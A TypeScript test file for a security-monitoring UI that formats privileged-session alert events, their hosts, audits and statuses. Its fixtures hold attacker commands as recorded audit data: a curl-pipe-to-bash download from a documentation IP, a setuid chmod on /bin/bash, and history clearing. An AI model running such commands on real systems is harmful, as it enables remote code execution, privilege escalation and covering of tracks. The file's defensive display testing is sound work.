import assert from 'node:assert/strict';
import { auditActor, auditFacts, auditHeadline, distinctHosts, eventFacts, eventShortName, eventStatusText, eventSubject, hostText, PAGE_LIMITS, shortId, TOOLTIP_LIMITS } from '../../src/model/eventFacts';
import { formatTime } from '../../src/model/format';
import { eventAudits, normalizeAudit, normalizeEvent } from '../../src/model/ptaEvent';
import { NOW, psmEvent } from '../support/psmEvent';
import { hostileEvents } from '../support/hostileEvents';

const fact = (facts: ReadonlyArray<readonly [string, string]>, label: string) => facts.find(([l]) => l === label)?.[1];

describe('eventFacts', () => {
  it('lists score, status, times, whom, where and the commands, each host once', () => {
    const facts = eventFacts(psmEvent(), NOW, PAGE_LIMITS);
    assert.deepEqual(facts.map(([label]) => label), ['Score', 'Status', 'Event ID', 'Created', 'Last updated', 'Accounts', 'Vault users', 'Sources', 'Targets', 'Commands', 'Audits']);
    assert.equal(fact(facts, 'Score'), '85.7 (high risk)');
    assert.equal(fact(facts, 'Last updated'), `${formatTime(NOW - 120_000)} (2 min ago)`);
    assert.equal(fact(facts, 'Targets'), 'dc-prod-05.corp.example.com (10.1.109.150)');
    assert.equal(fact(facts, 'Sources'), 'erp-dev-27.corp.example.com (10.25.171.60)');
    assert.equal(fact(facts, 'Commands'), 'curl -s http://203.0.113.9/i.sh | bash, chmod 4755 /bin/bash, history -c');
  });

  it('says why a closed event was closed', () => {
    const facts = eventFacts(psmEvent({ mStatus: 'CLOSED', closeReason: 'NOTREAL', reasonText: 'pen test' }), NOW, TOOLTIP_LIMITS);
    assert.equal(fact(facts, 'Status'), 'Closed · False positive');
    assert.equal(fact(facts, 'Close text'), 'pen test');
  });

  it('cuts long lists and values to the tooltip limits', () => {
    const audits = Array.from({ length: 8 }, (_, i) => ({ vaultUser: `user${i}`, psmCommand: `${'x'.repeat(200)}${i}` }));
    const facts = eventFacts(psmEvent({ audits }), NOW, TOOLTIP_LIMITS);
    assert.match(fact(facts, 'Vault users') ?? '', /^user0, user1, user2, user3, user4 and 3 more$/);
    for (const part of (fact(facts, 'Commands') ?? '').replace(/ and 3 more$/, '').split(', ')) assert.equal(part.length, TOOLTIP_LIMITS.value);
  });
});

describe('distinctHosts', () => {
  it('merges an IP, a short name and a resolved address of one host, keeping its best name and IP', () => {
    const hosts = distinctHosts([
      { original: '10.1.109.150' },
      { original: 'dc-prod-05', ip: '10.1.109.150', hostName: 'dc-prod-05', fqdn: 'dc-prod-05.corp.example.com' },
      { original: 'DC-PROD-05' },
      { original: 'db01' },
    ]);
    assert.deepEqual(hosts.map(hostText), ['dc-prod-05.corp.example.com (10.1.109.150)', 'db01']);
  });

  it('joins a bare IP and a short name that a later resolved address shows to be one host', () => {
    // As the simulator's audits of one event came: the IP, the name, then the address tying them.
    const hosts = distinctHosts([
      { original: '10.21.166.227' },
      { original: 'ci-prod-14' },
      { original: '10.21.166.227', ip: '10.21.166.227', hostName: 'ci-prod-14', fqdn: 'ci-prod-14.corp.example.com' },
      { original: 'ci-prod-14' },
    ]);
    assert.deepEqual(hosts.map(hostText), ['ci-prod-14.corp.example.com (10.21.166.227)']);
  });

  it('keeps different hosts apart', () => {
    assert.equal(distinctHosts([{ original: '10.0.0.1' }, { original: '10.0.0.2' }, undefined, { original: 'a.corp' }, { original: 'b.corp' }]).length, 4);
  });
});

describe('audit facts and headlines', () => {
  it('titles an audit by its command, else its action, else its type', () => {
    const [first] = eventAudits(psmEvent());
    assert.equal(auditHeadline(first, 80), 'curl -s http://203.0.113.9/i.sh | bash');
    assert.equal(auditHeadline(normalizeAudit({ action: 'Logon', type: 'VAULT_LOGON' }), 80), 'Logon');
    assert.equal(auditHeadline(normalizeAudit({ type: 'VAULT_LOGON' }), 80), 'Vault logon');
    assert.equal(auditHeadline(normalizeAudit(null), 80), 'Audit');
    assert.equal(auditHeadline(normalizeAudit({ psmCommand: 'y'.repeat(500) }), 80).length, 80);
  });

  it('names who acted and as which account', () => {
    const [first, second] = eventAudits(psmEvent());
    assert.equal(auditActor(first, 60), 'jsmith as Administrator@web-prod-33');
    assert.equal(auditActor(second, 60), 'jsmith');
    assert.equal(auditActor(normalizeAudit({}), 60), undefined);
  });

  it('puts the command first and leaves out what is missing', () => {
    const facts = auditFacts(eventAudits(psmEvent())[2], PAGE_LIMITS);
    assert.deepEqual(facts, [['Command', 'history -c'], ['Action', 'Command executed'], ['Type', 'PSM SSH command'], ['Vault user', 'jsmith'], ['Target', 'DC-PROD-05']]);
  });
});

describe('event names and subjects', () => {
  it('names an event by its type and a short id', () => {
    assert.equal(eventShortName(psmEvent({ type: 'GoldenTicket' })), 'Golden Ticket · 5f1e…78');
    assert.equal(shortId('abc'), 'abc');
    assert.doesNotMatch(shortId('\u202e5f1e0c2ab1d24a00123456'), /\u202e/);
  });

  it('says whom and where for the row, with a count of the others', () => {
    assert.deepEqual(eventSubject(psmEvent(), 40), { who: 'Administrator@web-prod-33', where: 'dc-prod-05.corp.example.com' });
    const users = psmEvent({ audits: [{ vaultUser: 'a' }, { vaultUser: 'b', target: { mOriginalAddress: 'h1' } }, { target: { mOriginalAddress: 'h2' } }] });
    assert.deepEqual(eventSubject(users, 40), { who: 'a +1', where: 'h1 +1' });
    assert.deepEqual(eventSubject(psmEvent({ audits: [] }), 40), { who: undefined, where: undefined });
  });

  it('states the status with the close reason', () => {
    assert.equal(eventStatusText(psmEvent()), 'Open');
    assert.equal(eventStatusText(psmEvent({ mStatus: 'CLOSED' })), 'Closed');
    assert.equal(eventStatusText(psmEvent({ mStatus: 'CLOSED', closeReason: 'HANDLED' })), 'Closed · Handled');
  });
});

describe('facts of hostile events', () => {
  const RAW_CONTROL = /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

  it('are visible single-line text, never "undefined", within their limits', () => {
    for (const raw of hostileEvents(NOW)) {
      const event = normalizeEvent(raw);
      assert.ok(event);
      const texts = [eventShortName(event), ...eventFacts(event, NOW, TOOLTIP_LIMITS).flat(), ...Object.values(eventSubject(event, 40)).filter((v): v is string => !!v)];
      for (const audit of eventAudits(event)) texts.push(auditHeadline(audit, 80), ...auditFacts(audit, TOOLTIP_LIMITS).flat(), auditActor(audit, 60) ?? '');
      for (const text of texts) {
        assert.doesNotMatch(text, RAW_CONTROL, `event ${event.id}: ${JSON.stringify(text)}`);
        assert.doesNotMatch(text, /undefined|\[object Object\]/, `event ${event.id}`);
      }
      for (const [, value] of eventFacts(event, NOW, TOOLTIP_LIMITS)) {
        assert.ok(value.length <= TOOLTIP_LIMITS.value * TOOLTIP_LIMITS.listItems + 40, `event ${event.id}: a fact of ${value.length} characters`);
      }
    }
  });
});
